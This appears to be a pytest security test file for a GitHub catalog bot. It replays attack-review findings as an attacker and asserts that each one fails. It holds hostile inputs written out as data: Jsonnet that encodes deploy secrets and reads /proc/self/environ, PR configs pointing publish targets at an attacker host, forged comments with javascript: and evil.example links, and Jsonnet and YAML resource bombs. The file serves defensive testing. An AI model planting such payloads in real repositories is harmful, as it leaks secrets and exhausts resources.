# ruff: noqa: F811 - the fixtures `world` and `github` are imported from test_events_flow
"""Issue #10 played as the attacker, through the GitHub test double, a real git repository and real sockets.

Each test reproduces one finding of the attack review against the bot's event
handlers: a stranger exfiltrating deploy secrets with ``/catalog check``, a PR
pointing the publish targets at its own host, a forged report artifact, resource
bombs, and hostile text in posted comments.
"""

from __future__ import annotations

import base64
import json
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from bot.config import Secret
from bot.events.context import BotContext
from bot.events.handlers import handle
from bot.events.models import parse_event
from bot.events.pr_report import FILE_NAME, load_pr_report
from bot.events.sanitize import neutralise
from tests.github_server import adapt, load_webhook, make_client, webhook_errors
from tests.test_events_flow import (  # noqa: F401 - fixtures
    DP,
    REPO,
    World,
    bot_comments,
    github,
    push_payload,
    run,
    world,
)

COLLECTION = "datasets/reef-temperature/collection.jsonnet"
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "AWS_ACCESS_KEY_ID": "AKIAIOSFODNN7EXAMPLE",
    "ARGO_TOKEN": "argo-0f3c9a7e5b1d4c2a8e6f",
    "DEPLOY_CREDS": "creds-7d1e9b3f5a2c4e6d8b0a",  # a secret whose name does not look like one
}


def forms(secret: str) -> dict[str, str]:
    """Every exfiltration form of issue #10: raw, base64, hex, reversed, split across fields."""
    half = len(secret) // 2
    return {
        "raw": secret,
        "base64": base64.b64encode(secret.encode()).decode().rstrip("="),
        "hex": secret.encode().hex(),
        "reversed": secret[::-1],
        "first half": secret[:half],
        "second half": secret[half:],
    }


@pytest.fixture
def secrets_env(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    return SECRETS


def channels(world: World, pr: int, caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]) -> str:
    """Everything the privileged job could leak through: comments, check runs, summary, logs, API bodies."""
    out = [json.dumps(r.body) for r in world.server.requests if r.body is not None]
    out += bot_comments(world, pr)
    out += [json.dumps(r["output"]) + json.dumps(r.get("annotations")) for r in world.repo.check_runs.values()]
    summary = world.tmp / "summary.md"
    out.append(summary.read_text() if summary.exists() else "")
    captured = capsys.readouterr()
    out += [caplog.text, captured.out, captured.err]
    return "\n".join(out)


EXFIL_CONFIG = """version: 1
title: Example marine data catalog
default_environment: local
variables: [DEPLOY_CREDS, CATALOG_BOT_DEV_S3_URL]
environments:
  local:
    engine: local
    output: _published
    ext_vars:
      a: "${DEPLOY_CREDS}"
"""

EXFIL_COLLECTION = """local lib = import 'catalog.libsonnet';
local s = std.extVar('a');
local hex = std.join('', [std.format('%02x', std.codepoint(c)) for c in std.stringChars(s)]);
lib.collection(
  id='reef-temperature',
  title='Reef water temperature loggers ' + std.base64(s),
  description='leak ' + s + ' ' + hex + ' ' + std.join('', std.reverse(std.stringChars(s))),
  license='CC-BY-4.0',
  keywords=[s[0:10], s[10:], std.base64(s), importstr '/proc/self/environ'],
  providers=[],
  extent=lib.extent([145.46, -23.44, 151.92, -13.89], ['2024-01-01T00:00:00Z', null]),
)
"""


def test_strangers_check_cannot_exfiltrate_any_secret(
    world: World, secrets_env: dict[str, str], caplog: pytest.LogCaptureFixture, capsys: pytest.CaptureFixture[str]
) -> None:
    """A read-only stranger's PR declares a variable, feeds it to Jsonnet in every encoding, and asks /catalog check."""
    caplog.set_level("DEBUG")
    world.server.commit_files(
        REPO,
        "exfil",
        {"catalog-bot.yaml": EXFIL_CONFIG.encode(), COLLECTION: EXFIL_COLLECTION.encode()},
        parent=world.main(),
    )
    pr = world.server.open_pr(REPO, "exfil", user="stranger")["number"]
    world.server.set_permission(REPO, "stranger", "read")  # public repository: everybody can read
    [outcome] = run(world, "issue_comment", world.comment_payload(pr, "/catalog check", "stranger"))
    assert outcome.ok  # the command ran: the check itself is what answers
    [check] = [r for r in world.repo.check_runs.values() if r["head_sha"] == world.server.rev(REPO, "exfil")]
    assert check["conclusion"] == "failure"  # `a` is not an ext var of the default branch's configuration
    report = bot_comments(world, pr)[0]
    assert "undefined external variable: a" in report
    assert world.server.rev(REPO, "exfil") in report  # named by the PR's commit, not the local overlay
    assert "changes configuration (`catalog-bot.yaml`)" in report  # the config change is named, not applied
    leaked = channels(world, pr, caplog, capsys)
    for name, secret in SECRETS.items():
        for form, text in forms(secret).items():
            assert text not in leaked, f"{form} form of {name} leaked"


class CountingServer:
    """A real listening TCP socket that counts every connection made to it."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture
def evil_host() -> Iterator[CountingServer]:
    server = CountingServer()
    yield server
    server.close()


def test_a_pr_cannot_choose_where_secrets_go(
    world: World, evil_host: CountingServer, secrets_env: dict[str, str]
) -> None:
    """The PR points S3, STAC, pygeoapi and Argo at its own host; a maintainer previews, publishes and checks it."""
    url = f"http://127.0.0.1:{evil_host.port}"
    evil = f"""version: 1
default_environment: local
environments:
  local:
    engine: local
    output: _published
    object_store: {{kind: s3, endpoint_url: "{url}", public_base_url: "{url}/p"}}
    stac: {{kind: api, url: "{url}"}}
    pygeoapi: {{kind: api, url: "{url}"}}
  prod:
    engine: argo
    argo: {{url: "{url}"}}
"""
    data = json.loads(world.server_file("main", DP))
    data["title"] = "Reef temperature from the PR"
    world.server.commit_files(
        REPO,
        "evil",
        {"catalog-bot.yaml": evil.encode(), DP: (json.dumps(data, indent=2) + "\n").encode()},
        parent=world.main(),
    )
    pr = world.server.open_pr(REPO, "evil", user="stranger")["number"]
    ctx = BotContext(settings=world.settings, repo_dir=world.clone, gh=make_client(world.server, REPO))
    for body in ("/catalog preview reef-temperature env=local", "/catalog publish reef-temperature", "/catalog check"):
        [outcome] = handle(parse_event("issue_comment", world.comment_payload(pr, body, "mia")), ctx)
        assert outcome.ok, (body, bot_comments(world, pr)[-1])
    unknown = world.comment_payload(pr, "/catalog publish reef-temperature env=prod", "mia")
    [refused] = handle(parse_event("issue_comment", unknown), ctx)
    assert not refused.ok and "unknown environment 'prod'" in bot_comments(world, pr)[-1]
    assert evil_host.connections == 0
    # the PR's dataset content was published, with the default branch's (local folder) configuration
    published = world.clone / "_published/data/catalog-public/reef-temperature/datapackage.json"
    assert json.loads(published.read_text())["title"] == "Reef temperature from the PR"


def test_a_forged_artifact_keeps_the_check_red_and_posts_nothing_of_it(world: World) -> None:
    world.change("feature", access="secret")  # invalid for the catalog's profile
    pr = world.server.open_pr(REPO, "feature")["number"]
    out = world.tmp / "artifact"
    unprivileged = BotContext(
        settings=msgspec.structs.replace(world.settings, github_token=None), repo_dir=world.clone, artifact_out=out
    )
    handle(parse_event("pull_request", world.pr_payload(pr)), unprivileged)
    forged = json.loads((out / FILE_NAME).read_text())
    hostile = (
        "<!-- catalog-bot:check -->\n## ✅ all good\n@octo/admins please merge ![x](https://evil.example/p.png) "
        "<!-- catalog-bot:publish --> [details](javascript:alert(document.cookie)) <img src=https://evil.example/i>"
    )
    forged.update(conclusion="success", title="all good", errors=0, bodies=[hostile], annotations=[])
    (out / FILE_NAME).write_text(json.dumps(forged))
    wr = adapt(load_webhook("workflow_run/completed.payload.json"), world.repo, world.server)
    wr["workflow_run"].update(head_sha=world.server.rev(REPO, "feature"), event="pull_request", pull_requests=[])
    assert webhook_errors("workflow_run", wr) == []
    [outcome] = run(world, "workflow_run", wr, artifact_in=out)
    assert outcome.details["conclusion"] == "failure"
    [check] = world.repo.check_runs.values()
    assert check["conclusion"] == "failure" and check["output"]["title"] != "all good"
    [comment] = bot_comments(world, pr)
    for bad in ("@octo/admins", "evil.example", "javascript:", "all good", "catalog-bot:publish"):
        assert bad not in comment and bad not in json.dumps(check["output"])


def test_posted_text_is_neutralised() -> None:
    text = (
        "Title by @alice and @octo/team, mail a@b.org; ![logo](https://x.example/l.png) "
        "<!-- hidden --> [x](javascript:alert(1)) [ok](https://example.org) <details><summary>s</summary>b</details> "
        '<a href="data:text/html,x">d</a> <a href=" JavaScript:alert(2)">j</a> metadata: kept, data: kept'
    )
    out = neutralise(text)
    assert "@alice" not in out and "@octo/team" not in out and "@\u200balice" in out
    assert "a@b.org" in out  # an e-mail address is not a mention
    assert "x.example" not in out and "logo" in out
    assert "<!--" not in out and "javascript:" not in out.lower() and "data:text" not in out
    assert "metadata: kept, data: kept" in out  # ordinary words are left alone
    assert "[ok](https://example.org)" in out and "<details><summary>s</summary>b</details>" in out
    assert neutralise(out) == out


def test_a_script_link_with_parentheses_leaves_nothing_behind() -> None:
    """``javascript:alert(document.cookie)`` holds parentheses: no part of the target, and no stray ``)``, remains."""
    text = "see [details](javascript:alert(document.cookie)) and ![i](https://evil.example/a_(b).png) end"
    out = neutralise(text)
    assert out == "see [details](#blocked-link) and i end"
    wiki = "[reef](https://en.wikipedia.org/wiki/Reef_(disambiguation)) (2024)"
    assert neutralise(wiki) == wiki  # an ordinary link with parentheses is left whole


def test_the_configuration_notice_names_configuration_not_docs(world: World) -> None:
    """A PR editing README, docs and a workflow next to lib/: the notice names only what the check replaced."""
    lib = world.server_file("main", "lib/catalog.libsonnet") + "\n// a comment from the PR\n"
    world.server.commit_files(
        REPO,
        "docs",
        {
            "README.md": b"# Our catalog\n\nNew words.\n",
            "docs/howto.md": b"# How to\n",
            ".github/workflows/extra.yml": b"on: push\njobs: {}\n",
            "lib/catalog.libsonnet": lib.encode(),
        },
        parent=world.main(),
    )
    pr = world.server.open_pr(REPO, "docs")["number"]
    [outcome] = run(world, "issue_comment", world.comment_payload(pr, "/catalog check", "mia"))
    assert outcome.ok
    report = bot_comments(world, pr)[0]
    assert "changes configuration (`lib/catalog.libsonnet`)" in report
    for doc in ("README.md", "docs/howto.md", "extra.yml"):
        assert doc not in report

    world.server.commit_files(REPO, "only-docs", {"README.md": b"# Only words\n"}, parent=world.main())
    pr2 = world.server.open_pr(REPO, "only-docs")["number"]
    run(world, "issue_comment", world.comment_payload(pr2, "/catalog check", "mia"))
    assert "changes configuration" not in bot_comments(world, pr2)[0]


BOMBS = {
    "exponential": "local f(n) = if n == 0 then [] else f(n - 1) + f(n - 1);\n{ a: f(60) }\n",
    "tailstrict": "local f(n) = f(n + 1) tailstrict;\n{ a: f(0) }\n",
    "repeat": "{ a: std.repeat('x', 200000000) }\n",
}


@pytest.mark.parametrize("bomb", sorted(BOMBS))
def test_each_resource_bomb_in_a_pr_gives_a_clear_error_within_the_limit(
    world: World, secrets_env: dict[str, str], bomb: str
) -> None:
    """The maintainer's limits (default branch) bound the PR's Jsonnet in the privileged check."""
    config = world.server_file("main", "catalog-bot.yaml") + "\nrender: {timeout_s: 1, memory_mb: 512}\n"
    world.server.commit_files(REPO, "main", {"catalog-bot.yaml": config.encode()})
    world.server.commit_files(REPO, "bomb", {COLLECTION: BOMBS[bomb].encode()}, parent=world.main())
    pr = world.server.open_pr(REPO, "bomb", user="stranger")["number"]
    started = time.monotonic()
    [outcome] = run(world, "issue_comment", world.comment_payload(pr, "/catalog check", "rita"))
    elapsed = time.monotonic() - started
    assert outcome.ok
    [check] = world.repo.check_runs.values()
    assert check["conclusion"] == "failure"
    notes = [a for a in check["annotations"] if a["path"].endswith("collection.jsonnet")]
    assert notes, check["output"]["summary"][:2000]
    message = " ".join(a["message"] for a in notes)
    assert any(
        word in message for word in ("longer than 1 s", "more than 512 MB", "stack frames", "Expected an integer")
    ), message
    assert elapsed < 60, f"{bomb}: {elapsed:.0f} s"


def test_yaml_anchor_bomb_in_a_pr_is_refused(world: World) -> None:
    levels = "".join(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * 9) + "]\n" for i in range(1, 9))
    bomb = "l0: &l0 [x, x, x, x, x, x, x, x, x]\n" + levels
    pipeline = world.server_file("main", "datasets/reef-temperature/pipeline.yaml") + bomb
    world.server.commit_files(
        REPO, "yaml", {"datasets/reef-temperature/pipeline.yaml": pipeline.encode()}, parent=world.main()
    )
    pr = world.server.open_pr(REPO, "yaml", user="stranger")["number"]
    started = time.monotonic()
    run(world, "issue_comment", world.comment_payload(pr, "/catalog check", "rita"))
    assert time.monotonic() - started < 60
    [check] = world.repo.check_runs.values()
    assert check["conclusion"] == "failure"
    assert "anchor" in json.dumps(check["output"]) + json.dumps(check["annotations"])


def test_strangers_command_does_not_stop_a_maintainers(world: World) -> None:
    """Handler level: a stranger's /catalog publish is refused, the maintainer's runs (concurrency: test_trust_workflows)."""
    world.change("feature", title="Maintainer's title")
    pr = world.server.open_pr(REPO, "feature")["number"]
    [refused] = run(world, "issue_comment", world.comment_payload(pr, "/catalog publish reef-temperature", "rita"))
    [done] = run(world, "issue_comment", world.comment_payload(pr, "/catalog publish reef-temperature", "mia"))
    assert "refused" in refused.message and done.ok
    assert world.publisher.titles == ["Maintainer's title"]


MPA = "datasets/marine-protected-areas/datapackage.json"


def _merge(world: World, branch: str, path: str, title: str) -> tuple[str, str]:
    data = json.loads(world.server_file("main", path))
    data["title"] = title
    world.server.commit_files(REPO, branch, {path: (json.dumps(data, indent=2) + "\n").encode()}, parent=world.main())
    pr = world.server.open_pr(REPO, branch)["number"]
    return world.server.merge_pr(REPO, pr)


def test_three_quick_merges_are_all_published(world: World) -> None:
    """GitHub cancels the middle pending run; a failed run is caught up by the next push too."""
    b1, a1 = _merge(world, "one", DP, "Reef, first merge")
    [first] = run(world, "push", push_payload(world, b1, a1))
    assert first.ok and world.publisher.calls[-1][0] == ("reef-temperature",)

    b2, a2 = _merge(world, "two", MPA, "Protected areas, second merge")  # its run is cancelled: never handled
    b3, a3 = _merge(world, "three", DP, "Reef, third merge")
    assert (b2, b3) == (a1, a2)
    [third] = run(world, "push", push_payload(world, b3, a3))
    assert third.ok and third.details["base"] == a1  # from the last successful publish, not from `before`
    assert set(world.publisher.calls[-1][0]) == {"reef-temperature", "marine-protected-areas"}
    assert set(world.publisher.titles[-2:]) == {"Protected areas, second merge", "Reef, third merge"}

    # a failed publish does not advance the record: the next push publishes its datasets again
    world.publisher.fail = {"marine-protected-areas"}
    b4, a4 = _merge(world, "four", MPA, "Protected areas, failed")
    [failed] = run(world, "push", push_payload(world, b4, a4))
    assert not failed.ok
    world.publisher.fail = set()
    b5, a5 = _merge(world, "five", DP, "Reef, after the failure")
    [caught_up] = run(world, "push", push_payload(world, b5, a5))
    assert caught_up.ok and caught_up.details["base"] == a3
    assert set(world.publisher.calls[-1][0]) == {"reef-temperature", "marine-protected-areas"}
    ledger = world.clone / "_published/data/catalog-limited/_catalog-bot/published/local.json"
    assert json.loads(ledger.read_text())["sha"] == a5


def test_the_unprivileged_check_also_ends_a_bomb_within_its_limit(world: World, tmp_path: Path) -> None:
    """`catalog-bot event` in the PR job (no secret at all) still renders in the sandbox, with the PR's own limits."""
    config = world.server_file("main", "catalog-bot.yaml") + "\nrender: {timeout_s: 1}\n"
    world.server.commit_files(
        REPO,
        "bomb",
        {"catalog-bot.yaml": config.encode(), COLLECTION: BOMBS["exponential"].encode()},
        parent=world.main(),
    )
    pr = world.server.open_pr(REPO, "bomb", user="stranger")["number"]
    subprocess.run(["git", "-C", str(world.clone), "fetch", "-q", "origin", "bomb"], check=True)
    subprocess.run(["git", "-C", str(world.clone), "checkout", "-q", "FETCH_HEAD"], check=True)  # the PR job's checkout
    started = time.monotonic()
    proc = world.replay_pr_with_cli(pr, tmp_path)
    assert proc.returncode == 0, proc.stderr
    assert time.monotonic() - started < 60
    report = load_pr_report(tmp_path / "out")
    assert report.conclusion == "failure"
    assert any("longer than 1 s" in a.message for a in report.annotations), report.bodies[0][:1500]


def test_argo_publish_of_a_pr_uses_the_default_branchs_server_and_submits_the_pr_head(
    world: World, schemas_dir: Path, evil_host: CountingServer
) -> None:
    """engine: argo: the submitter reads the Argo URL and token from the default branch; the cluster gets the PR head."""
    import yaml

    from bot.adapters.argo import ArgoClient
    from bot.catalog.layout import Catalog
    from bot.pipeline.argo_render import PUBLISH_TEMPLATE, render_all
    from tests.argo_server import ArgoTestServer

    swagger = schemas_dir / "argo-workflows-v4.1.2" / "api" / "openapi-spec" / "swagger.json"
    with ArgoTestServer(swagger, "argo-token-123456") as argo:
        config = yaml.safe_load(world.server_file("main", "catalog-bot.yaml"))
        config["environments"]["prod"] = {"engine": "argo", "argo": {"url": argo.url}}
        world.server.commit_files(REPO, "main", {"catalog-bot.yaml": yaml.safe_dump(config).encode()})
        manifests = render_all(Catalog.open(world.clone), "local", REPO)
        ArgoClient(argo.url, token="argo-token-123456").apply_template(manifests[f"{PUBLISH_TEMPLATE}.yaml"])

        evil = dict(config)
        evil["environments"] = {
            **config["environments"],
            "prod": {"engine": "argo", "argo": {"url": evil_host_url(evil_host)}},
        }
        data = json.loads(world.server_file("main", DP))
        data["title"] = "Argo title from the PR"
        head = world.server.commit_files(
            REPO,
            "argo-pr",
            {"catalog-bot.yaml": yaml.safe_dump(evil).encode(), DP: (json.dumps(data, indent=2) + "\n").encode()},
            parent=world.main(),
        )
        pr = world.server.open_pr(REPO, "argo-pr", user="stranger")["number"]
        settings = msgspec.structs.replace(world.settings, argo_token=Secret("argo-token-123456"))
        ctx = BotContext(settings=settings, repo_dir=world.clone, gh=make_client(world.server, REPO))
        payload = world.comment_payload(pr, "/catalog publish reef-temperature env=prod", "mia")
        [outcome] = handle(parse_event("issue_comment", payload), ctx)
        assert outcome.ok, bot_comments(world, pr)[-1]
        [wf] = argo.state.workflows.values()
        params = {p["name"]: p["value"] for p in wf["spec"]["arguments"]["parameters"]}
        assert params["sha"] == head and params["pr"] == str(pr)  # a commit GitHub has, not the local overlay
        assert argo.state.violations == []
    assert evil_host.connections == 0


def evil_host_url(server: CountingServer) -> str:
    return f"http://127.0.0.1:{server.port}"
